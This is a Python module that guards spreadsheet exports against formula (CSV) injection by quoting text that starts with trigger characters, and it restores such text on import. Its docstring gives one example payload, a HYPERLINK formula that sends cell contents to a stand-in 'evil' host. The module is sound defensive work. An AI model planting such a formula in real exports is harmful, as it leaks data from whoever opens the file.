"""Exported text that a spreadsheet would run as a formula ("CSV injection"), made inert.

A cell such as `=HYPERLINK("http://evil/?"&A1,"click")` typed into a roster or a survey export
runs when someone opens the export in Excel or LibreOffice. OWASP's advice: prefix any text
starting with one of `= + - @`, tab or carriage return with a single quote, which spreadsheets
show as text and drop from view. Numbers are never changed. The readers strip the quote again
(`unquote_spreadsheet_safe`), so an exported file imports back unchanged.
"""

from __future__ import annotations

import re
from typing import TypeVar

# The ASCII triggers and their full-width forms, which some spreadsheet locales also accept.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")

T = TypeVar("T")


def spreadsheet_safe(value: T) -> T | str:
    """The value, with a leading quote when it is text a spreadsheet would treat as a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def unquote_spreadsheet_safe(value: str) -> str:
    """The text `spreadsheet_safe` was given: the guarding quote removed, nothing else."""
    if len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value
